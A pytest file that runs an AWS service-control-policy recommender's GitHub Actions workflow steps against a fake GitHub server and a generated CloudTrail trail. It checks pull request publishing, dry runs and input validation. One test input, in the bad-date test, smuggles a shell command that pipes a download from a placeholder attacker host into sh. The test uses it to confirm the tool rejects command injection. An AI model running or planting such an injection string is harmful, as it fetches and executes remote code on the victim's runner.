"""The workflow's own `run:` scripts, executed as the runner would, end to end: the real
`.venv/bin/scp-recommender` with the local engine over a generated trail, publishing to the
fake GitHub on 127.0.0.1 through the `GITHUB_*` variables Actions sets.

Only what cannot run here is skipped: the `uses:` steps (checkout, Python, AWS credentials,
artifact upload), the install step (`make`, which pip-installs; the checkout links the
project's installed virtualenv instead) and the drift check (AWS Organizations).
"""

import os
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from bench.logtree import TreeSpec, write_tree
from tests.fakegithub import FakeGitHub
from tests.test_propose import copy_policies
from tests.test_workflows import (
    MAIN,
    MAIN_STEP,
    VENV_BIN,
    dispatch_context,
    execute,
    load_workflow,
    run_steps,
)

INSTALL_STEP = "Install scp-recommender (the Makefile's virtualenv, as in the README)"
# Reads AWS Organizations: run against moto in tests/test_workflows_drift_apply.py.
DRIFT_STEP = "Check drift (AWS Organizations against policies/)"
SKIPPED = {INSTALL_STEP, DRIFT_STEP}
USES = {
    "actions/checkout",
    "actions/setup-python",
    "aws-actions/configure-aws-credentials",
    "actions/upload-artifact",
}
BRANCH = "scp-recommender/proposals"
# PyGithub waits a second between writes, as github.com asks; the fake needs no pause. Loaded
# by the tool's interpreter through PYTHONPATH; nothing else of the tool is changed.
NO_PACING = """\
from github.Requester import Requester

Requester._Requester__deferRequest = lambda self, verb: None
"""


def today() -> date:
    return datetime.now(UTC).date()


@pytest.fixture(scope="module")
def trail(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The last week of an organization trail, so the default window finds its denials."""
    root = tmp_path_factory.mktemp("trail")
    start = today() - timedelta(days=7)
    write_tree(TreeSpec(root=root, start=start, days=7, denial_rate=0.05))
    return root


@pytest.fixture
def checkout(tmp_path: Path) -> Path:
    """The repository as actions/checkout leaves it, with the installed virtualenv."""
    folder = tmp_path / "checkout"
    copy_policies(folder / "policies")
    (folder / ".venv").symlink_to(VENV_BIN.parent, target_is_directory=True)
    tool = folder / ".venv" / "bin" / "scp-recommender"
    assert tool.resolve() == (VENV_BIN / "scp-recommender").resolve()
    return folder


@pytest.fixture
def github(checkout: Path) -> Iterator[FakeGitHub]:
    files = {
        path.relative_to(checkout).as_posix(): path.read_text(encoding="utf-8")
        for path in sorted((checkout / "policies").iterdir())
    }
    with FakeGitHub(repository="acme/aws-scps", files=files) as fake:
        yield fake


def runner_env(tmp_path: Path, fake: FakeGitHub) -> dict[str, str]:
    """What the runner sets besides the steps' `env:`."""
    shim = tmp_path / "shim"
    shim.mkdir(exist_ok=True)
    (shim / "sitecustomize.py").write_text(NO_PACING, encoding="utf-8")
    return {
        "PATH": f"{VENV_BIN}{os.pathsep}{os.environ.get('PATH', '/usr/bin:/bin')}",
        "PYTHONPATH": str(shim),
        "GITHUB_STEP_SUMMARY": str(tmp_path / "step-summary.md"),
        "GITHUB_REPOSITORY": fake.repo.full_name,
        "GITHUB_API_URL": fake.url,
        "GITHUB_ACTIONS": "true",
    }


def context(trail: Path, fake: FakeGitHub, **inputs: Any) -> dict[str, Any]:
    variables = {
        "SCP_RECOMMENDER_ROLE_ARN": "arn:aws:iam::111111111111:role/scp-recommender",
        "AWS_REGION": "eu-west-1",
        "SCP_RECOMMENDER_LOGS": str(trail),
    }
    return dispatch_context(MAIN, variables=variables, token=fake.token, engine="local", **inputs)


def run_job(checkout: Path, job_context: dict[str, Any], env: dict[str, str]) -> list[Any]:
    """Every `run:` step of the job in order, as the runner does: it stops at a failure."""
    results = []
    for step in run_steps(MAIN):
        if step.name in SKIPPED:
            continue
        result = execute(step, cwd=checkout, context=job_context, extra_env=env)
        results.append((step.name, result))
        if result.returncode != 0:
            break
    return results


def main_step(results: list[Any]) -> Any:
    names = [name for name, _ in results]
    assert names == ["Check the repository variables", MAIN_STEP]
    assert results[0][1].returncode == 0, results[0][1].stdout
    return results[1][1]


def test_only_the_steps_that_cannot_run_here_are_skipped():
    job = load_workflow(MAIN)["jobs"]["recommend"]
    uses = {step["uses"].split("@")[0] for step in job["steps"] if "uses" in step}
    assert uses == USES
    names = [step.name for step in run_steps(MAIN)]
    assert set(names) >= SKIPPED
    assert [name for name in names if name not in SKIPPED] == [
        "Check the repository variables",
        MAIN_STEP,
    ]
    assert (VENV_BIN / "scp-recommender").is_file()


@pytest.mark.parametrize(
    "window",
    [None, (8, 3)],
    ids=["default-window", "custom-window"],
)
def test_the_workflow_opens_the_pull_request(window, trail, checkout, github, tmp_path):
    inputs: dict[str, str] = {}
    if window is None:
        start, end = today() - timedelta(days=7), today()
    else:
        start, end = (today() - timedelta(days=days) for days in window)
        inputs = {"start_date": start.isoformat(), "end_date": end.isoformat()}
    env = runner_env(tmp_path, github)
    result = main_step(run_job(checkout, context(trail, github, **inputs), env))
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr

    (pull,) = github.repo.pulls.values()
    assert (pull.state, pull.head, pull.base) == ("open", BRANCH, "main")
    assert pull.title.endswith(f"({start} to {end})")
    assert result.stderr.splitlines()[-1].startswith(f"opened pull request #{pull.number} (")
    assert pull.labels == ["scp-recommender"]
    # The job summary and the uploaded folder hold what the pull request shows.
    out_dir = checkout / "out" / "scp-recommender"
    body = (out_dir / "pr-body.md").read_text(encoding="utf-8")
    assert pull.body == body
    assert Path(env["GITHUB_STEP_SUMMARY"]).read_text(encoding="utf-8") == body + "\n"
    assert f"**Window** {start} to {end} (end excluded)" in body
    edited = github.repo.files_at(BRANCH)
    for path in (out_dir / "policies").iterdir():
        assert edited[f"policies/{path.name}"] == path.read_text(encoding="utf-8")
    assert edited != github.repo.files_at("main")
    # The checkout's policies stay as they were: the edits live on the branch.
    assert (checkout / "policies" / "workloads-allow.json").read_text() == github.repo.read(
        "main", "policies/workloads-allow.json"
    )


def test_a_second_run_updates_the_pull_request(trail, checkout, github, tmp_path):
    env = runner_env(tmp_path, github)
    start, end = today() - timedelta(days=7), today() - timedelta(days=5)
    custom = {"start_date": start.isoformat(), "end_date": end.isoformat()}
    first = main_step(run_job(checkout, context(trail, github, **custom), env))
    assert first.returncode == 0, first.stderr
    (pull,) = github.repo.pulls.values()
    assert pull.title.endswith(f"({start} to {end})")
    second = main_step(run_job(checkout, context(trail, github), env))
    assert second.returncode == 0, second.stderr
    assert list(github.repo.pulls.values()) == [pull]
    assert second.stderr.splitlines()[-1].startswith(f"updated pull request #{pull.number} (")
    assert pull.title.endswith(f"({today() - timedelta(days=7)} to {today()})")
    assert len(github.calls("POST", "/pulls")) == 1


def test_a_dry_run_publishes_nothing(trail, checkout, github, tmp_path):
    env = runner_env(tmp_path, github)
    result = main_step(run_job(checkout, context(trail, github, dry_run=True), env))
    assert result.returncode == 0, result.stderr
    assert result.stderr.splitlines()[-1] == "dry run: nothing published"
    assert github.requests == []
    out_dir = checkout / "out" / "scp-recommender"
    assert {"policies", "pr-body.md", "changes.diff", "evidence.md"} <= {
        path.name for path in out_dir.iterdir()
    }
    assert Path(env["GITHUB_STEP_SUMMARY"]).read_text(encoding="utf-8").startswith("## ")


@pytest.mark.parametrize(
    "inputs",
    [
        {"start_date": "2026-13-01"},
        {"end_date": "yesterday"},
        {"start_date": "2026-11-20; curl evil.example | sh"},
    ],
    ids=["month-13", "word", "hostile"],
)
def test_a_bad_date_fails_with_one_line_and_publishes_nothing(
    inputs, trail, checkout, github, tmp_path
):
    env = runner_env(tmp_path, github)
    result = main_step(run_job(checkout, context(trail, github, **inputs), env))
    assert result.returncode == 2
    option = "--start" if "start_date" in inputs else "--end"
    assert result.stderr.startswith(f"error: {option}"), result.stderr
    assert result.stderr.count("\n") == 1
    assert github.requests == []
    # The job summary says why; nothing else is written.
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text(encoding="utf-8")
    assert summary.startswith("### scp-recommender failed") and "--" in summary
    assert not (checkout / "out").exists()


def test_the_local_engine_without_logs_fails_with_one_line(trail, checkout, github, tmp_path):
    env = runner_env(tmp_path, github)
    job_context = context(trail, github)
    job_context["vars"].pop("SCP_RECOMMENDER_LOGS")
    result = main_step(run_job(checkout, job_context, env))
    assert result.returncode == 2
    assert result.stderr == (
        "error: --logs: required with --engine local (a folder, file or s3:// URL)\n"
    )
    assert github.requests == []


def test_a_window_without_logs_fails_the_step_and_publishes_nothing(
    trail, checkout, github, tmp_path
):
    """A wrong bucket or window must not pass for a clean week: the step fails and says why."""
    env = runner_env(tmp_path, github)
    inputs = {"start_date": "2020-01-06", "end_date": "2020-01-13"}
    result = main_step(run_job(checkout, context(trail, github, **inputs), env))
    assert result.returncode == 2
    assert "Traceback" not in result.stderr
    assert result.stderr.splitlines()[-1].startswith(
        "error: nothing read: no CloudTrail log file in 2020-01-06 to 2020-01-13"
    )
    assert github.requests == []
    summary = Path(env["GITHUB_STEP_SUMMARY"]).read_text(encoding="utf-8")
    assert summary.startswith("### scp-recommender failed\n\nnothing read: ")
    assert not (checkout / "out").exists()
